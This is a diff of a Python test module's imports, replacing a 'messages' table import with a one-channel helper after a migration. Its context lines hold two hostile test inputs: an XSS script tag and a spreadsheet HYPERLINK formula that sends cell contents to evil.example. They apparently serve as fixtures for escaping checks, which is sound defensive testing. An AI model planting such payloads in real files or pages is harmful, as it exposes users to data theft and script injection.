@@ -39,13 +39,17 @@ from typer.testing import CliRunner
 from exchange import app as bootstrap
 from exchange.cli import app
 from exchange.db.engine import make_engine, transaction
-from exchange.db.schema import history, messages, staging
+from exchange.db.schema import history, staging
 from exchange.dev.dbkit import PgKit, sqlite_copy
-from exchange.dev.testing import FakeSite, fast_settings, run_worker
+from exchange.dev.testing import FakeSite, fast_settings, one_channel_messages, run_worker
 from exchange.domain.clock import SystemClock
 from exchange.domain.identity import message_id
 from exchange.ops.quarantine import Filters
 from exchange.report import collect as report
+
+# Migration 0026 dropped the one channel's copy from `messages` and `aggregates`: read each
+# with its delivery and cursor on the one channel instead.
+messages = one_channel_messages()
 
 SCRIPT = "<script>alert(1)</script>"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"открыть")'
